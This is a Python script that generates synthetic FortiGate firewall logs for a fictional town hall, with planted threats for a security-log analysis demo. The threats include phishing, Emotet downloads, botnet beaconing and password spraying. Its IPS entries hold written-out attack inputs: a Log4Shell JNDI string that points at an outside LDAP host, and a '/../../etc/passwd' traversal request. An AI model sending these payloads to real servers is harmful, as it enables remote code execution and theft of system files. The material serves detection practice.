#!/usr/bin/env python3
"""Generate demo/fortigate-sakura.log: one day (2026-11-20, JST) of FortiGate 100F
syslog from a small municipality (Sakura Town hall: ~300 PCs on the admin LAN,
an LGWAN segment, a DMZ web server) with a few planted threats.  Deterministic:
the same output every run, so the demo output in the README stays true.

    python3 scripts/gen_demo.py > demo/fortigate-sakura.log
"""
import random

R = random.Random(20261120)
DEV = 'devname="SAKURA-FGT01" devid="FG100FTK20001234"'
TZ = 9 * 3600
DAY0 = 1795100400  # 2026-11-20T00:00:00+09:00 as Unix seconds
lines = []
session = [700000000]

def sid():
    session[0] += R.randint(1, 40)
    return session[0]

def hdr(t, pri, logid, typ, sub, level, extra_front=""):
    hh, mm, ss = t // 3600, t // 60 % 60, t % 60
    ns = (DAY0 + t) * 1000000000 + R.randint(0, 999999999)
    return (f'<{pri}>date=2026-11-20 time={hh:02d}:{mm:02d}:{ss:02d} {DEV} eventtime={ns} tz="+0900" '
            f'logid="{logid}" type="{typ}" subtype="{sub}" {extra_front}level="{level}" vd="root"')

PCS = [f"10.10.{R.randint(1, 9)}.{R.randint(10, 250)}" for _ in range(120)]
LGWAN = [f"10.20.1.{i}" for i in range(10, 40)]
SITES = [
    ("www.soumu.go.jp", "133.250.241.30"), ("login.microsoftonline.com", "20.190.141.32"),
    ("outlook.office365.com", "52.96.88.146"), ("www.google.com", "142.250.196.100"),
    ("www.yahoo.co.jp", "182.22.24.252"), ("www.e-gov.go.jp", "163.44.181.23"),
    ("update.microsoft.com", "13.107.4.50"), ("www.pref.example.lg.jp", "203.0.113.80"),
    ("teams.microsoft.com", "52.113.194.132"), ("www.nhk.or.jp", "23.40.226.85"),
]

def traffic(t, src, dst, dport, service, action="close", policy=5, proto=6, sent=None, rcvd=None,
            dstintf="wan1", dstrole="wan", srcintf="internal1", srcrole="lan"):
    s = hdr(t, 189, "0000000013", "traffic", "forward", "notice")
    sent = R.randint(400, 20000) if sent is None else sent
    rcvd = R.randint(800, 400000) if rcvd is None else rcvd
    pk = lambda b: max(1, b // 900)
    s += (f' srcip={src} srcport={R.randint(49152, 65535)} srcintf="{srcintf}" srcintfrole="{srcrole}"'
          f' dstip={dst} dstport={dport} dstintf="{dstintf}" dstintfrole="{dstrole}" srccountry="Reserved"'
          f' dstcountry="{"Reserved" if dst.startswith("10.") or dst.startswith("172.") else "Japan"}"'
          f' sessionid={sid()} proto={proto} action="{action}" policyid={policy} policytype="policy"'
          f' poluuid="5c1d0a3e-7f2b-51ef-8a4e-3f1c2b9d0a{policy:02d}" policyname="LAN-to-Internet"'
          f' service="{service}" trandisp="snat" transip=203.0.113.10 transport={R.randint(1024, 65535)}'
          f' appcat="unscanned" duration={R.randint(1, 300)} sentbyte={sent} rcvdbyte={rcvd}'
          f' sentpkt={pk(sent)} rcvdpkt={pk(rcvd)}')
    return s

def deny(t, src, dst, dport, service, proto=6, policy=0, srcintf="internal1", srcrole="lan"):
    s = hdr(t, 189, "0000000013", "traffic", "forward", "notice")
    s += (f' srcip={src} srcport={R.randint(49152, 65535)} srcintf="{srcintf}" srcintfrole="{srcrole}"'
          f' dstip={dst} dstport={dport} dstintf="wan1" dstintfrole="wan" srccountry="Reserved"'
          f' dstcountry="Bulgaria" sessionid={sid()} proto={proto} action="deny" policyid={policy}'
          f' policytype="policy" service="{service}" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0'
          f' sentpkt=0 appcat="unscanned" crscore=30 craction=131072 crlevel="high"')
    return s

def webfilter(t, src, host, dst, path, action="passthrough", cat=52, catdesc="Information Technology"):
    blk = action == "blocked"
    s = hdr(t, 188 if blk else 189, "0316013056" if blk else "0317013312", "utm", "webfilter",
            "warning" if blk else "notice", f'eventtype="{"ftgd_blk" if blk else "ftgd_allow"}" ')
    s += (f' policyid=5 sessionid={sid()} srcip={src} srcport={R.randint(49152, 65535)} srcintf="internal1"'
          f' srcintfrole="lan" dstip={dst} dstport=443 dstintf="wan1" dstintfrole="wan" proto=6'
          f' service="HTTPS" hostname="{host}" profile="sakura-web" action="{action}" reqtype="direct"'
          f' url="https://{host}{path}" sentbyte={R.randint(300, 2000)} rcvdbyte={0 if blk else R.randint(1000, 90000)}'
          f' direction="outgoing" msg="{"URL belongs to a denied category in policy" if blk else "URL belongs to an allowed category in policy"}"'
          f' method="domain" cat={cat} catdesc="{catdesc}"')
    if blk:
        s += ' crscore=30 craction=4194304 crlevel="high"'
    return s

def dns_ok(t, src, qname, ip):
    s = hdr(t, 190, "1501054802", "utm", "dns", "information", 'eventtype="dns-response" ')
    s += (f' policyid=3 sessionid={sid()} srcip={src} srcport={R.randint(49152, 65535)} srcintf="internal1"'
          f' srcintfrole="lan" dstip=10.10.0.53 dstport=53 dstintf="internal2" dstintfrole="lan" proto=17'
          f' profile="default" xid={R.randint(1, 65535)} qname="{qname}" qtype="A" qtypeval=1 qclass="IN"'
          f' ipaddr="{ip}" msg="Domain is monitored" action="pass" cat=52 catdesc="Information Technology"')
    return s

# ---- background: a working day --------------------------------------------------
for _ in range(1500):
    t = R.choice([R.randint(8 * 3600, 18 * 3600)] * 9 + [R.randint(0, 86399)])
    src = R.choice(PCS)
    host, ip = R.choice(SITES)
    k = R.random()
    if k < 0.55:
        lines.append((t, traffic(t, src, ip, 443, "HTTPS")))
    elif k < 0.70:
        lines.append((t, webfilter(t, src, host, ip, R.choice(["/", "/index.html", "/news/", "/api/v1/status"]))))
    elif k < 0.82:
        lines.append((t, dns_ok(t, src, host, ip)))
    elif k < 0.90:
        lg = R.choice(LGWAN)
        lines.append((t, traffic(t, lg, "10.250.1.20", 443, "HTTPS", policy=8, dstintf="lgwan",
                                 dstrole="wan", srcintf="internal3")))
    else:
        lines.append((t, traffic(t, src, "8.8.8.8", 53, "DNS", proto=17, sent=70, rcvd=130)))

# routine admin and VPN activity
for t in (8 * 3600 + 1800, 13 * 3600 + 600, 17 * 3600 + 900):
    s = hdr(t, 189, "0100032001", "event", "system", "information")
    s += (' logdesc="Admin login successful" sn="1763600000" user="jouhou-admin" ui="https(10.10.1.5)"'
          ' method="https" srcip=10.10.1.5 dstip=10.10.0.1 action="login" status="success"'
          ' reason="none" profile="super_admin" msg="Administrator jouhou-admin logged in successfully from https(10.10.1.5)"')
    lines.append((t, s))
for t in (7 * 3600 + 3000, 12 * 3600 + 100):
    s = hdr(t, 190, "0101039947", "event", "vpn", "information")
    s += (' logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=1180'
          ' remip=198.51.100.23 tunnelip=10.212.134.200 user="kikaku02" group="telework" dst_host="N/A"'
          ' reason="tunnel established" msg="SSL tunnel established"')
    lines.append((t, s))
# one scheduled FortiGuard update and a config change
t = 3 * 3600 + 15 * 60
lines.append((t, hdr(t, 189, "0100041000", "event", "system", "notice") +
              ' logdesc="FortiGuard update succeeded" status="update" msg="Fortigate updated, AV db: 92.08311, IPS db: 29.00918"'))

# ---- planted threats ---------------------------------------------------------------
# 1. 09:12 phishing link clicked from a mail: blocked by the web filter (Phishing)
t = 9 * 3600 + 12 * 60 + 7
lines.append((t, webfilter(t, "10.10.3.45", "login-microsoftonline.verify-account.top", "203.0.113.66",
                           "/common/oauth2/authorize?client_id=sakura", "blocked", 61, "Phishing")))

# 2. 10:05 Emotet dropper downloaded over HTTP: AV blocks one copy...
t = 10 * 3600 + 5 * 60 + 33
s = hdr(t, 188, "0211008192", "utm", "virus", "warning", 'eventtype="infected" ')
s += (f' msg="File is infected." action="blocked" service="HTTP" sessionid={sid()} srcip=10.10.5.21'
      ' dstip=198.51.100.77 srcport=51515 dstport=80 srcintf="internal1" srcintfrole="lan" dstintf="wan1"'
      ' dstintfrole="wan" policyid=5 proto=6 direction="incoming" filename="invoice_2026-11.doc"'
      ' quarskip="File-was-not-quarantined" virus="W97M/Emotet.AB!tr" dtype="av-engine"'
      ' ref="http://www.fortinet.com/ve?vn=W97M%2FEmotet.AB%21tr" virusid=8123456'
      ' url="http://cdn.badfiles.xyz/dl/invoice_2026-11.doc" profile="default"'
      ' agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"'
      ' analyticssubmit="false" crscore=50 craction=2 crlevel="critical"')
lines.append((t, s))
# ...but the sandbox flags a second, packed payload that got through to the same PC
t = 10 * 3600 + 9 * 60 + 2
s = hdr(t, 188, "0211009234", "utm", "virus", "warning", 'eventtype="infected" ')
s += (f' msg="File reported infected by Sandbox." action="monitored" service="HTTP" sessionid={sid()}'
      ' srcip=10.10.5.21 dstip=198.51.100.77 srcport=51602 dstport=80 srcintf="internal1" srcintfrole="lan"'
      ' dstintf="wan1" dstintfrole="wan" policyid=5 proto=6 direction="incoming" filename="update_kb5031.exe"'
      ' quarskip="No-skip" virus="Malware/Emotet!fsa" dtype="fortisandbox" fsaverdict="high risk"'
      ' analyticscksum="5f2b7c3d9e8a1b4c6d0e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c"'
      ' url="http://cdn.badfiles.xyz/dl/update_kb5031.exe" profile="default" crscore=50 craction=2 crlevel="critical"')
lines.append((t, s))

# 3. from 10:40 the infected PC beacons to its C&C every 5 minutes
for i in range(12):
    t = 10 * 3600 + 40 * 60 + i * 300 + R.randint(0, 9)
    lines.append((t, traffic(t, "10.10.5.21", "185.220.101.45", 443, "HTTPS", sent=R.randint(600, 900),
                             rcvd=R.randint(300, 500))))
t = 10 * 3600 + 41 * 60 + 3
s = hdr(t, 188, "1059028704", "utm", "app-ctrl", "warning", 'eventtype="signature" ')
s += (f' appid=53482 srcip=10.10.5.21 dstip=185.220.101.45 srcport=52811 dstport=443 srcintf="internal1"'
      f' srcintfrole="lan" dstintf="wan1" dstintfrole="wan" proto=6 service="HTTPS" direction="outgoing"'
      f' policyid=5 sessionid={sid()} applist="default" action="block" appcat="Botnet" app="Emotet.Botnet"'
      ' incidentserialno=182734 msg="Botnet: Emotet.Botnet," apprisk="critical"')
lines.append((t, s))

# 4. 11:20 another PC resolves a QakBot C&C domain: DNS filter blocks (botnet list)
t = 11 * 3600 + 20 * 60 + 45
s = hdr(t, 188, "1501054601", "utm", "dns", "warning", 'eventtype="dns-response" ')
s += (f' policyid=3 sessionid={sid()} srcip=10.10.7.8 srcport=53211 srcintf="internal1" srcintfrole="lan"'
      ' dstip=10.10.0.53 dstport=53 dstintf="internal2" dstintfrole="lan" proto=17 profile="default"'
      ' xid=4321 qname="update.qakbot-c2.duckdns.org" qtype="A" qtypeval=1 qclass="IN"'
      ' msg="Domain was blocked because it is in the botnet C&C domain list" action="block"'
      ' botnetdomain="update.qakbot-c2.duckdns.org" cat=88 catdesc="Dynamic DNS"')
lines.append((t, s))
# and tries the C&C IP directly: denied by the "block known bad" policy
for i in range(4):
    t = 11 * 3600 + 21 * 60 + i * 15
    lines.append((t, deny(t, "10.10.7.8", "91.92.109.23", 8443, "tcp/8443", policy=2)))

# 5. 13:02 Log4Shell and ThinkPHP exploit attempts against the DMZ web server
for i, (attack, sev, aid, url) in enumerate([
        ("Apache.Log4j.Error.Log.Remote.Code.Execution", "critical", 51006, "/?q=${jndi:ldap://45.155.205.99:1389/Exploit}"),
        ("ThinkPHP.Request.Method.Remote.Code.Execution", "high", 47865, "/index.php?s=captcha"),
        ("Web.Server.Password.Files.Access", "medium", 12146, "/../../etc/passwd")]):
    t = 13 * 3600 + 2 * 60 + i * 41
    s = hdr(t, 185, "0419016384", "utm", "ips", "alert", 'eventtype="signature" ')
    s += (f' severity="{sev}" srcip=45.155.205.99 srccountry="Netherlands" dstip=172.16.1.10 srcintf="wan1"'
          f' srcintfrole="wan" dstintf="dmz" dstintfrole="dmz" sessionid={sid()} action="dropped" proto=6'
          f' service="HTTPS" policyid=12 attack="{attack}" srcport={R.randint(30000, 60000)} dstport=443'
          f' hostname="www.town-sakura.example.jp" url="{url}" direction="incoming" attackid={aid}'
          f' profile="dmz-protect" ref="http://www.fortinet.com/ids/VID{aid}" incidentserialno={R.randint(100000, 999999)}'
          f' msg="web_server: {attack}," crscore=50 craction=4096 crlevel="critical"')
    lines.append((t, s))

# 6. 02:14-02:17 SSL VPN password spraying from abroad: 18 failures
users = ["admin", "soumu01", "zeimu03", "test", "kikaku02", "administrator"]
for i in range(18):
    t = 2 * 3600 + 14 * 60 + i * 10
    s = hdr(t, 185, "0101039426", "event", "vpn", "alert")
    s += (f' logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" tunnelid=0'
          f' remip=103.77.192.11 user="{users[i % len(users)]}" group="N/A" dst_host="N/A"'
          ' reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"')
    lines.append((t, s))

# 7. 19:48 someone on the LAN guesses the FortiGate admin password: 7 failures in 2 minutes
for i in range(7):
    t = 19 * 3600 + 48 * 60 + i * 17
    s = hdr(t, 185, "0100032002", "event", "system", "alert")
    s += (' logdesc="Admin login failed" sn="0" user="admin" ui="https(10.10.9.77)" method="https"'
          ' srcip=10.10.9.77 dstip=10.10.0.1 action="login" status="failed" reason="passwd_invalid"'
          ' msg="Administrator admin login failed from https(10.10.9.77) because of invalid password"')
    lines.append((t, s))

# ---- what a real feed also contains: lines that do not decode -------------------
# a Windows event forwarded to the FortiGate port by a misconfigured NXLog agent
lines.append((12 * 3600, '{"EventTime":"2026-11-20 12:00:00","Hostname":"SAKURA-DC01","EventID":4625,"TargetUserName":"admin","IpAddress":"10.10.9.77"}'))
lines.append((12 * 3600 + 1, 'Nov 20 12:00:01 sakura-nas01 kernel: eth0: link up, 1000Mbps, full-duplex'))

lines.sort(key=lambda x: x[0])
print("\n".join(l for _, l in lines))
